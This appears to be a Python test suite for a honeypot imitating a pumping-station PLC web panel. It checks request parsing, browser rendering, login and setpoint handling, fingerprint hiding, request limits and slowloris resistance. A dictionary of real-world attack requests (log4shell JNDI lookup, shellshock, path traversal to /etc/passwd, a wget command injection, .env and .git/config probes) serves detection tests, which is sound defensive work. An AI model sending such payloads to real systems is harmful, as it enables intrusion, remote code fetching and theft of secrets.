"""The web pages on the published binary: raw sockets, curl, nmap, a browser.

Debian: curl nmap chromium. What is not installed is skipped by name."""

import contextlib
import json
import os
import re
import socket
import subprocess
import threading
import time

import modbus
from browser import Browser
from checks import require, run_checks
from deception_strings import POTSNITCH_S7, TEMPLATES, within
from harness import Sensor
from journal import action, field
from programs import needed
from s7comm_control import STOP, Client

FAST = ("http.latency=0",)
TELLS = (*TEMPLATES, *POTSNITCH_S7, "Tue, 19 May 1993", "timeticks", "BaseHTTP", "Kestrel")


def ask(port, *pieces):
    with socket.create_connection(("127.0.0.1", port), 5) as stream:
        for piece in pieces:
            stream.sendall(piece)
        stream.shutdown(socket.SHUT_WR)
        answer = b""
        while part := stream.recv(65536):
            answer += part
        return answer.decode("utf-8", "replace")


def check_pipelined_and_split_requests_are_answered_in_order():
    with Sensor() as sensor:
        said = ask(sensor.http_port, b"GET /a HTTP/1.1\r\nHo", b"st: x\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        require(said.count("HTTP/1.1 404 ") == 2 and said.index("/a<") < said.index("/b<"), said)
        events = sensor.journal.wait(lambda found: sum(action(e) == "http.request" for e in found) >= 2)
        require([field(e, "conpot.path") for e in events if action(e) == "http.request"] == ["/a", "/b"], f"{events}")


def check_no_page_has_what_detectors_look_for():
    with Sensor() as sensor:
        index = ask(sensor.http_port, b"GET / HTTP/1.0\r\n\r\n")
        pages = [index, *(ask(sensor.http_port, f"GET {path} HTTP/1.0\r\n\r\n".encode()) for path in set(re.findall(r'href="(/[^"]+)"', index)))]
        require(len(pages) == 7, f"{len(pages)} pages")
        for page in pages:
            require(page.startswith("HTTP/1.1 200 OK\r\n") and not within(TELLS, page), page[:300])


def check_two_sensors_are_not_alike():
    """Neither by a header nor by what stands in the pages: of each piece that repeats on a sensor's pages, style and script, none is on another's."""
    heads = []
    for seed in ("one", "two"):
        with Sensor(f"plc.seed={seed}") as sensor:
            heads.append(ask(sensor.http_port, b"GET / HTTP/1.0\r\n\r\n"))
    for piece in ("Server: .*", "<style.*?</style>", "<script.*?</script>", 'div id="[^"]*"><div id="[^"]*" class="[^"]*"', "<title>[^<]*", 'href="data:'):
        found = [re.search(piece, head, re.DOTALL) for head in heads]
        require(not any(found) if "data:" in piece else found[0].group() != found[1].group(), f"{piece}: {found}")


def check_curl_and_expect():
    with Sensor("http.login=none") as sensor:
        done = subprocess.run([needed("curl"), "-s", "-H", "Expect: 100-continue", "-d", "user=a&password=b", f"http://127.0.0.1:{sensor.http_port}/nothing"], capture_output=True, text=True, timeout=20, check=False)
        require(done.returncode == 0 and "404" in done.stdout, f"{done}")


def check_nmap_reads_title_and_headers():
    with Sensor() as sensor:
        done = subprocess.run([needed("nmap"), "-Pn", "-n", "--script", "+http-title,+http-headers", "-p", str(sensor.http_port), "127.0.0.1"], capture_output=True, text=True, timeout=180, check=False)
        require("http-title: Pumping station" in done.stdout and "Server: " in done.stdout and "Conpot" not in done.stdout, done.stdout)


# ---- In a browser: SHOTS names a folder for pictures of every page ------------------------------------------------------

PAGES = ("index", "alarms", "setpoints", "diag", "ident", "login")


def home(sensor):
    return f"http://127.0.0.1:{sensor.http_port}/"


def complaints(browser):
    """Without what it says of an icon: it asks for one unbidden, and the panel has none."""
    return [text for text in browser.complaints if "favicon" not in text]


def links(browser):
    """The pages of the navigation by their names."""
    return {re.match(r".*/(\w+)\.\w+$", url)[1]: url for url in browser.evaluate("[...document.querySelectorAll('h1 + div a')].map(a => a.href)")}


def shoot(browser, name):
    if folder := os.environ.get("SHOTS"):
        browser.picture(os.path.join(folder, f"{name}.png"))


def check_values_move_in_a_browser_without_a_reload():
    with Sensor('io."AIW0"=constant 16000') as sensor, Browser() as browser, sensor.connect() as client:
        browser.open(home(sensor))
        browser.evaluate("window.mine = 1")
        text = "document.body.innerText"
        browser.wait(f"/Tank level\\s+[12]\\.[09]\\d m/.test({text}) && /Pump\\s+stopped/.test({text})")
        client.ask(modbus.write_coil(0, True))
        browser.wait(f"/Pump\\s+RUNNING/.test({text})")
        clock = browser.evaluate("document.querySelector('h1 + div + div > div').innerText")
        browser.wait(f"document.querySelector('h1 + div + div > div').innerText !== {json.dumps(clock)}")
        with Client(sensor.s7_port) as s7:
            s7.job(STOP)
        browser.wait(f"/CPU STOP/.test({text}) && /Pump\\s+stopped/.test({text}) && document.querySelector('h1 + div + div > div').className.includes(' ')")
        shoot(browser, "stopped")
        require(browser.evaluate("window.mine") == 1, "the page was loaded anew")
        require(not complaints(browser), f"the browser complains: {complaints(browser)}")


def check_polls_of_an_open_page_are_counted_and_not_listed():
    with Sensor() as sensor, Browser() as browser:
        browser.open(home(sensor))
        seen = "performance.getEntriesByType('resource').filter(e => e.responseEnd > 0 && e.name.includes('json')).length"
        browser.wait(f"{seen} >= 4")
        polls = browser.evaluate(seen)
        browser.open("about:blank")
        events = sensor.journal.wait(lambda found: not found)
        sensor.stop()
        events += sensor.journal.fresh()
        whole = [e for e in events if action(e) == "http.request" and field(e, "conpot.page") == "values"]
        counted = sum(field(e, "conpot.count") for e in events if action(e) == "http.polled")
        sessions = {field(e, "conpot.session") or field(e, "source.port") for e in whole}
        require(len(whole) == len(sessions) and all(field(e, "conpot.repeats") == "counted" for e in whole), f"{len(whole)} of them are listed in {len(sessions)} sessions")
        require(polls <= len(whole) + counted <= polls + 2 and counted > 0, f"{polls} were sent, {len(whole)} listed and {counted} counted")
        requests = sum(field(e, "conpot.requests", 0) for e in events if action(e) == "session.end")
        others = sum(action(e) in ("http.request", "http.identify") for e in events) - len(whole)
        require(requests == len(whole) + counted + others, f"{requests} requests were answered, {len(whole)} + {counted} + {others} are in the journal")
        return f"{len(whole)} listed, {counted} counted"


def check_a_setpoint_form_reaches_the_process_image():
    with Sensor("http.user=operator", "http.password=pump house", 'io."AIW0"=constant 16000') as sensor, Browser() as browser, sensor.connect() as client:
        browser.open(home(sensor))
        where = links(browser)
        field_of = "[...document.querySelectorAll('tr')].find(r => r.innerText.includes('Pump starts below')).querySelector('input')"
        login = "document.querySelector('[name=user]').value = 'operator'; document.querySelector('[name=password]').value = {}; document.forms[0].submit()"
        before = modbus.registers(client.ask(modbus.read(modbus.READ_HOLDING, 5, 1)))
        browser.open(where["setpoints"])
        browser.submit(f"{field_of}.value = '99'; document.forms[0].submit()")
        require("/login" in browser.evaluate("location.href"), "no login was asked for")
        browser.submit(login.format("'wrong'"))
        require("Login failed" in browser.evaluate("document.body.innerText"), "a wrong password is taken, or nothing is said")
        shoot(browser, "login-failed")
        require(modbus.registers(client.ask(modbus.read(modbus.READ_HOLDING, 5, 1))) == before, "written without a login")
        browser.submit(login.format("'pump house'"))
        require("/setpoints" in browser.evaluate("location.href"), f"after the login: {browser.evaluate('location.href')}")
        browser.submit(f"{field_of}.value = '99'; document.forms[0].submit()")
        require("Saved." in browser.evaluate("document.body.innerText") and browser.evaluate(f"{field_of}.value") == "99", "the form was not taken")
        shoot(browser, "saved")
        require(modbus.registers(client.ask(modbus.read(modbus.READ_HOLDING, 5, 1))) == [7920], "99 cm are not 7920 counts in VW10")
        require(not complaints(browser), f"the browser complains: {complaints(browser)}")
        events = sensor.journal.wait(lambda found: any(action(e) == "http.write" and field(e, "event.outcome", "success") == "success" for e in found))
        tried = [(field(e, "conpot.user"), field(e, "conpot.password")) for e in events if action(e) in ("http.login", "http.login-taken")]
        require(tried == [("operator", "wrong"), ("operator", "pump house")], f"the logins recorded are {tried}")


def check_every_page_fits_a_telephone_and_a_desk():
    with Sensor() as sensor, Browser() as browser:
        browser.open(home(sensor))
        where = links(browser)
        require(tuple(where) == PAGES, f"the pages are {list(where)}")
        for width in (360, 1000):
            browser.resize(width)
            for name, url in where.items():
                browser.open(url)
                wide = browser.evaluate("document.documentElement.scrollWidth")
                require(wide <= width, f"{name}: {wide} pixels wide in a window of {width}")
                require(browser.evaluate("document.title").endswith(browser.evaluate("document.querySelector('h1 + div a[class]').innerText")), f"{name}: another title")
                shoot(browser, f"{name}-{width}")
        require(not complaints(browser), f"the browser complains: {complaints(browser)}")


# ---- Those who mean harm ---------------------------------------------------------------------------------------------------

def status(port, request, seconds=10):
    """The status line's number, or "" for a close without one."""
    with socket.create_connection(("127.0.0.1", port), seconds) as stream:
        try:
            stream.sendall(request)
            answer = b""
            while b"\r\n" not in answer and (part := stream.recv(65536)):
                answer += part
        except ConnectionError:
            return ""  # It closed while we still sent.
        return answer[9:12].decode()


def check_what_is_too_long_is_refused_and_bounded():
    head = b"GET / HTTP/1.1\r\nHost: x\r\n"
    with Sensor(*FAST) as sensor:
        before = sensor.resident_kilobytes()
        for what, request, wanted in (
                ("a request line of 4 KB", b"GET /" + b"a" * 5000 + b" HTTP/1.1\r\n\r\n", "414"),
                ("headers of 16 KB", head + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 500) for i in range(40)) + b"\r\n", "400"),
                ("65 headers", head + b"".join(b"X-%d: y\r\n" % i for i in range(64)) + b"\r\n", "400"),
                ("a body of 41 KB announced", head[:-2].replace(b"GET", b"POST") + b"\r\nContent-Length: 41000\r\n\r\n", "413"),
                ("a body of 10 GB announced", head.replace(b"GET", b"POST") + b"Content-Length: 10000000000\r\n\r\n", "413"),
                ("a chunk of 10 MB", head.replace(b"GET", b"POST") + b"Transfer-Encoding: chunked\r\n\r\nA00000\r\n" + b"z" * 60000, "400"),
                ("one more form than is read", head.replace(b"GET", b"POST") + b"Content-Length: 30000\r\n\r\n" + b"a" * 30000, "405"),
                ("64 headers", head + b"".join(b"X-%d: y\r\n" % i for i in range(63)) + b"\r\n", "200")):
            got = status(sensor.http_port, request)
            require(got == wanted or (got == "" and wanted != "200"), f"{what}: {got!r}, not {wanted}")
        events = sensor.journal.wait(lambda found: sum(action(e).startswith("http.") for e in found) >= 8)
        lines = [e for e in events if action(e).startswith("http.")]
        require(len(lines) == 8, f"{len(lines)} events for 8 requests")
        require(max(len(json.dumps(e)) for e in lines) < 16 << 10, "an event longer than a line of the journal")
        for _ in range(30):
            status(sensor.http_port, head.replace(b"GET", b"POST") + b"Content-Length: 40000\r\n\r\n" + b"b" * 40000)
        grown = sensor.resident_kilobytes() - before
        require(grown < 4096, f"{grown} KiB more after 38 greedy requests")
        return f"{grown} KiB"


# What is seen in the wild (honeypot reports; the payloads are made harmless), each by its path or by a header.
EXPLOITS = {
    "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1": "log4shell", "GET /cgi-bin/test.cgi HTTP/1.1\r\nUser-Agent: () { :; }; echo": "shellshock",
    "GET /../../../../etc/passwd HTTP/1.1": "path traversal", "GET /cgi-bin/.%2e/.%2e/.%2e/etc/hosts HTTP/1.1": "path traversal", "GET /%2e%2e%2f%2e%2e%2fwin.ini HTTP/1.1": "path traversal",
    "POST /boaform/admin/formLogin HTTP/1.1": "boaform", "POST /goform/set_LimitClient_cfg HTTP/1.1": "goform", "POST /GponForm/diag_Form?images/ HTTP/1.1": "gpon", "POST /HNAP1/ HTTP/1.1": "hnap",
    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1": "huawei hg532", "POST /picdesc.xml HTTP/1.1": "realtek upnp", "GET /shell?cd+/tmp HTTP/1.1": "jaws dvr", "POST /tmUnblock.cgi HTTP/1.1": "linksys",
    "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd HTTP/1.1": "netgear", "GET /cgi-bin/luci/;stok=/locale HTTP/1.1": "luci", "GET /device.rsp?opt=sys HTTP/1.1": "tbk dvr",
    "GET /a?b=;wget+http://192.0.2.1/x HTTP/1.1": "command injection", "GET /a?b=$(busybox) HTTP/1.1": "command injection", "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1": "phpunit",
    "GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1": "thinkphp", "POST /hello.world?%ADd+allow_url_include%3d1 HTTP/1.1": "php", "GET /wp-login.php HTTP/1.1": "wordpress",
    "GET /.env HTTP/1.1": "secrets", "GET /.git/config HTTP/1.1": "secrets", "GET /actuator/health HTTP/1.1": "spring", "GET /solr/admin/info/system HTTP/1.1": "solr", "GET /manager/html HTTP/1.1": "tomcat",
    "GET /owa/auth/logon.aspx HTTP/1.1": "exchange", "GET /mgmt/tm/util/bash HTTP/1.1": "f5", "GET /vpns/portal/x HTTP/1.1": "citrix", "GET /dana-na/auth/x HTTP/1.1": "pulse",
    "GET /remote/fgt_lang?lang=/../x HTTP/1.1": "path traversal", "PUT /SDK/webLanguage HTTP/1.1": "hikvision", "GET /a?b=<script> HTTP/1.1": "script injection", "GET /a?id=1+UNION+SELECT+1 HTTP/1.1": "sql injection",
    "GET /setup/setupadministrator.action HTTP/1.1": "confluence", "GET /geoserver/web/ HTTP/1.1": "geoserver", "GET /cgi-bin/nas_sharing.cgi?cmd=15 HTTP/1.1": "d-link nas", "GET /cgi-bin/ViewLog.asp HTTP/1.1": "zyxel",
    "POST /cgi-bin/supervisor/Factory.cgi HTTP/1.1": "avtech", "GET /api/v1/totp/user-backup-code/ HTTP/1.1": "ivanti", "GET /level/15/exec/-/show HTTP/1.1": "cisco ios", "POST /webui_wsma_http HTTP/1.1": "cisco ios",
    "GET /system.ini?loginuse&loginpas HTTP/1.1": "ip camera", "POST /UD/act?1 HTTP/1.1": "tr-064", "GET /nmaplowercheck123 HTTP/1.1": None,
}


def check_what_is_known_of_attacks_is_tagged():
    with Sensor(*FAST) as sensor:
        for request in EXPLOITS:
            line, _, headers = request.partition("\r\n")
            require(status(sensor.http_port, (line + "\r\nHost: x\r\n" + (headers + "\r\n" if headers else "") + "\r\n").encode()), f"{line}: no answer")
        events = sensor.journal.wait(lambda found: sum(action(e).startswith("http.") for e in found) >= len(EXPLOITS), 5)
        found = [(action(e), field(e, "conpot.attack")) for e in events if action(e).startswith("http.")]
        wrong = [(request, got) for (request, name), got in zip(EXPLOITS.items(), found) if got != ("http.exploit" if name else "http.identify", name)]
        require(len(found) == len(EXPLOITS) and not wrong, f"tagged otherwise: {wrong}")
        return f"{len(found)} of them"


def check_a_slowloris_holds_up_nobody():
    """Header bytes one by one that never end, on more connections than there are: bounded, and a browser is answered meanwhile."""
    with Sensor(*FAST) as sensor:
        before, over, slow = sensor.resident_kilobytes(), threading.Event(), []

        def dribble():
            while not over.wait(0.05):
                for stream in list(slow):
                    try:
                        stream.send(b"a")
                    except OSError:
                        slow.remove(stream)
                        with contextlib.suppress(OSError):
                            another()

        def another():
            stream = socket.create_connection(("127.0.0.1", sensor.http_port), 5)
            stream.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
            slow.append(stream)

        for _ in range(100):
            with contextlib.suppress(OSError):
                another()
        attacker = threading.Thread(target=dribble)
        attacker.start()
        try:
            took, answered = [], 0
            for _ in range(40):
                began = time.monotonic()
                answered += status(sensor.http_port, b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n") == "200"
                took.append(time.monotonic() - began)
        finally:
            over.set()
            attacker.join()
            for stream in slow:
                stream.close()
        require(answered >= 38, f"{answered} of 40 requests were answered meanwhile")
        grown = sensor.resident_kilobytes() - before
        require(grown < 8192, f"{grown} KiB more")
        events = sensor.journal.wait(lambda found: any(field(e, "conpot.reason") == "its place was needed" for e in found))
        require(any(field(e, "conpot.reason") == "its place was needed" and field(e, "conpot.unfinished") for e in events), "nothing tells who was shown out")
        return f"{answered} of 40, the slowest in {max(took) * 1000:.0f} ms, {grown} KiB more"


if __name__ == "__main__":
    raise SystemExit(run_checks(globals()))
